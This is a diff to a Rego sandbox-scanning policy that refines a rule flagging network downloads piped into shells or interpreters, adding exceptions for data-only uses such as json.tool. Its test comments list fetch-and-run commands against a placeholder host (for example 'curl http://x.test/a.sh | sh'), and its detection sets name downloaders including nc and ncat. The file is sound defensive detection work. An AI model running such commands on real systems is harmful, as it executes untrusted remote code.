@@ -146,8 +146,11 @@ findings contains {"id": "SBX-NET-0008", "at": n.at, "msg": sprintf("listens on 
 #     - {"language": "bash", "code": "curl http://x.test/a.sh | sh"}
 #     - {"language": "bash", "code": "source <(curl -s http://x.test/a.sh)"}
 #     - {"language": "python", "code": "import requests\nexec(requests.get('http://x.test/a').text)"}
+#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -m code"}
 #   not_match:
 #     - {"language": "bash", "code": "cat a | sort"}
+#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -c 'import json, sys; print(json.load(sys.stdin))'"}
+#     - {"language": "bash", "code": "curl -s http://x.test/a | python3 -m json.tool"}
 findings contains {"id": "SBX-NET-0003", "at": d.at, "msg": sprintf("code that comes from %s is run", [from])} if {
 	some kind in {"opaque_code", "opaque_file", "opaque_command", "partial_code", "eval", "dyn_import"}
 	some d in input.dynamic[kind]
@@ -158,9 +161,49 @@ findings contains {"id": "SBX-NET-0003", "at": d.at, "msg": sprintf("code that c
 findings contains {"id": "SBX-NET-0003", "at": p.at, "msg": sprintf("a download is piped into %s", [last])} if {
 	some p in input.pipelines
 	some first in p.names
-	first in {"curl", "wget", "aria2c", "lynx", "nc", "ncat"}
+	first in downloaders
 	some last in p.names
-	last in {"sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "node", "perl", "ruby", "php"}
+	last in interpreters
+	not reads_data(p, last)
+}
+
+downloaders := {"curl", "wget", "aria2c", "lynx", "nc", "ncat"}
+
+interpreters := {"sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "node", "perl", "ruby", "php"}
+
+# reads_data: it has its program from elsewhere, and starts no other interpreter,
+# which would have the same to read.
+reads_data(p, name) if {
+	here := [c | some c in input.commands[name]; some from in c.pipe_from; from in downloaders]
+	count(here) > 0
+	every c in here {
+		own_program(name, c)
+		not "i" in c.flags
+	}
+	count([1 | some other in interpreters; some c in input.commands[other]; object.get(c, "depth", 0) > object.get(p, "depth", 0)]) == 0
+}
+
+own_program(name, c) if {
+	name in {"node", "perl", "ruby"}
+	"e" in c.flags
+}
+
+own_program(name, c) if {
+	name in {"python", "python3"}
+	"c" in c.flags
+}
+
+own_program(name, c) if {
+	name in {"python", "python3"}
+	module := object.get(c.values, "-m", "code")
+	not module in {"code", "pdb", "asyncio", "idlelib", "IPython", "ptpython"}
+}
+
+own_program(name, c) if {
+	name in {"python", "python3", "node", "perl", "ruby", "php"}
+	file := c.operands[0]
+	regex.match(`^[\w.][\w./-]*$`, file)
+	not contains(file, "..")
 }
 
 # METADATA
